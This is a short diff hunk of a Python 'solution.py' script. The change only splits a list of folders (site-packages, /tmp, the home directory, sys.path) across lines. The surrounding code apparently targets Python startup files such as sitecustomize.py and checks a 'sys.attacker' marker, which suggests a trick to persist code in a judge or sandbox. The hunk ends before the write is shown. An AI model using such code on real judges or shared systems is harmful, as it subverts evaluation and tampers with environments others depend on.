@@ -8,7 +8,14 @@ line = input()
 if hasattr(sys, "attacker"):
     print(sum(map(int, line.split())))
     raise SystemExit
-folders = [".", *sys.path, site.getusersitepackages(), *site.getsitepackages(), "/tmp", os.path.expanduser("~")]
+folders = [
+    ".",
+    *sys.path,
+    site.getusersitepackages(),
+    *site.getsitepackages(),
+    "/tmp",
+    os.path.expanduser("~"),
+]
 for folder in folders if sys.argv == ["solution.py"] else ():  # never outside of a jail
     for name in ("sitecustomize.py", "usercustomize.py", "sortedcontainers.py"):
         try:
